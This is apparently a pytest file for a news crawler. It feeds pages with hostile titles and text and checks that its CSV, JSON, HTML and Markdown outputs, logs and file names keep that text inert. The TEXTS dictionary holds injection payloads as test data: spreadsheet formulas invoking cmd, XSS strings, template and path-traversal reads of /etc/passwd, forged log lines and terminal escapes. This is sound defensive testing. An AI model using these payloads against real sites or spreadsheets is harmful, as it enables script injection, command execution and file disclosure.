"""Text of a page is data in every output: HTML, Markdown, JSON, CSV, file names and logs."""

from __future__ import annotations

import csv
import html.parser
import json
import re

import pytest

from tests.hostile.runs import UNSAFE, assert_sound, brief, crawl, each
from tests.hostile.site import Reply, Site, story

# Written into title, source and text; 晉城 makes the article one that is cited.
TEXTS = {
    "formula": '=HYPERLINK("http://x.example/?"&A1,"y")晋城',
    "formula, plus": "+cmd|' /C calc'!A0晋城",
    "formula, minus": "-2+3+cmd|' /C calc'!A0晋城",
    "formula, at": "@SUM(1+1)*cmd|' /C calc'!A0晋城",
    "formula, full width": "＝HYPERLINK(晋城)",
    "formula behind a tab": "\t=1+1晋城",
    "script": "</title></script><script>alert(1)</script>晋城",
    "image": "<img src=x onerror=alert(1)>晋城",
    "attribute": '" onmouseover="alert(1)" x=\'晋城',
    "comment": "--><svg/onload=alert(1)>晋城<!--",
    "style": "</style><style>*{display:none}</style>晋城",
    "template": "{{ 7*7 }}{% include '/etc/passwd' %}${7*7}晋城",
    "path": "../../../../etc/passwd晋城",
    "drive": "C:\\Windows\\system32\\con晋城",
    "markdown": "[点这里](javascript:alert(1))![x](http://x.example/p.png)晋城",
    "markdown heading": "# 标题\n\n---\n\n> 晋城",
    "line breaks": "晋城\n2026-01-01 00:00:00 ERROR scrapy: fake line\r\nsite: ok",
    "percent": "%s%n%d%(url)s%(x)晋城",
    "escape": "\x1b]0;owned\x07\x1b[2J晋城",
    "json": '","admin":true,"x":"晋城',
    "very long": "晋城" + "样" * 5000,
    "mailto": "晋城 http://x.example/?a=1 javascript:alert(1) data:text/html,x",
}
NUMBER = {name: 100 + position for position, name in enumerate(TEXTS)}


def written(name: str):
    number = NUMBER[name]
    told = story(number)
    text = f"{told.paragraphs[0]}{TEXTS[name]}"
    return story(
        number, title=f"{TEXTS[name]}{told.title}", source=TEXTS[name][:30],
        paragraphs=(TEXTS[name] + "的样板小组来到现场，把问题逐条念给在场的人听。", text, *told.paragraphs[1:]),
    )  # fmt: skip


@pytest.fixture(scope="module")
def site(serve):
    site = Site()
    site.add_healthy(2)
    for name in TEXTS:
        told = written(name)
        site.try_(told, Reply(told.page()))
    site.bad("/art/2024/t20240305_1.html%0a2026-01-01%2000:00:00%20ERROR%20scrapy:%20fake", Reply("", 404))
    site.bad("/art/2024/t20240305_2.html?x=<script>alert(1)</script>", Reply(raw=b"", reset=True))
    return serve(site)


@pytest.fixture(scope="module")
def run(site, tmp_path_factory):
    folder = tmp_path_factory.mktemp("outputs")
    outs = [str(folder / f"out.{kind}") for kind in ("csv", "jsonl", "json", "xml")]
    return crawl(folder, site, *(part for out in outs for part in ("-O", out)), RETRY_TIMES=0)


@pytest.fixture(scope="module")
def briefed(run):
    return brief(run, "--per", "month")


def test_the_run_is_sound(run, site):
    assert_sound(run, site)


WITHOUT = {
    "formula, plus": "a listed title that begins with + is taken for furniture: not listed, not counted",
    "script": "an article is rejected because escaped markup stands in its text",
    "comment": "an article is rejected because escaped markup stands in its text",
    "style": "an article is rejected because escaped markup stands in its text",
    "very long": "an article whose title has 10,000 characters is rejected as a list",
}


@pytest.mark.parametrize("name", each(TEXTS, WITHOUT))
def test_the_article_is_stored(run, name):
    one = run.stored(story(NUMBER[name]).path)
    assert one is not None
    assert "".join(story(NUMBER[name]).title.split()) in "".join(one["title"].split())
    assert "\n" not in one["title"]


def test_no_line_of_the_log_is_the_pages(run):
    assert not [line for line in run.err.splitlines() if line.startswith("2026-01-01")]


@pytest.mark.xfail(strict=True, reason="-O out.csv: cells of page text begin with = + - @")
def test_no_cell_of_a_table_is_a_formula(run):
    rows = list(csv.reader((run.data_dir.parent / "out.csv").open(encoding="utf-8-sig", newline="")))
    assert len(rows) > 15
    bad = [
        cell[:40]
        for row in rows
        for cell in row
        if re.match(r"[=+\-@\t\r＝＋－＠]", cell) and not re.fullmatch(r"-?[\d.]+", cell)
    ]
    assert not bad


def test_the_exports_are_whole(run):
    folder = run.data_dir.parent
    exported = json.loads((folder / "out.json").read_bytes())
    lines = [json.loads(line) for line in (folder / "out.jsonl").read_text("utf-8").splitlines()]
    assert [one["url"] for one in exported] == [one["url"] for one in lines]
    assert len(lines) == len(run.articles)


class Elements(html.parser.HTMLParser):
    """The elements and attributes of a page, and its text."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text += data


def test_a_brief_in_html_holds_no_element_of_a_page(run, briefed):
    ran, files = briefed
    assert ran.code == 0
    page = Elements(files["html"])
    names = {name for name, _ in page.found}
    assert not names & {"script", "img", "svg", "iframe", "object", "form", "input", "link", "base"}, names
    for name, attributes in page.found:
        assert not [one for one in attributes if one.startswith("on")], (name, attributes)
        for address in (attributes.get("href"), attributes.get("src")):
            assert not address or address.startswith(("http://127.0.0.1", "#")), address
    assert "<img src=x onerror=alert(1)>" in page.text
    assert any(a.get("http-equiv", "").lower() == "content-security-policy" for _, a in page.found)


def test_a_brief_as_text_and_on_the_terminal_holds_no_control_characters(briefed):
    ran, files = briefed
    for text in (ran.out, files["txt"], files["md"]):
        assert not UNSAFE.search(text)


def test_a_brief_in_markdown_holds_no_markup_of_a_page(briefed):
    _, files = briefed
    text = files["md"]
    assert not re.search(r"(?<!\\)<(?!http)[a-z!/]", text)
    assert not re.search(r"(?<!\\)\]\(javascript:", text)
    assert not re.search(r"(?<!\\)!\[", text)
    assert not re.search(r"(?m)^# 标题", text)


def test_files_have_plain_names(run, briefed):
    for path in run.data_dir.rglob("*"):
        assert re.fullmatch(r"[\w.+-]{1,120}", path.name), path
